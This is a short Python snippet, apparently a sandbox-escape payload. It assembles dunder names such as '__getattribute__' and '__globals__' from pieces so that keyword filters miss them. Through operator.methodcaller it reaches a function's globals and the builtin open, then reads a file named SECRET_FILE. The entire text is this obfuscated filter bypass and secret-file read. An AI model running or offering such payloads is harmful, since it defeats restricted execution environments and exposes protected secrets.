# A method caller of operator calls the method that reads attributes.
import operator
from contextlib import ExitStack

word = "_".join(["", "", "getattribute", "", ""])
names = operator.methodcaller(word, "_".join(["", "", "globals", "", ""]))(ExitStack.close)
print(names["__builtins__"]["open"](SECRET_FILE).read())
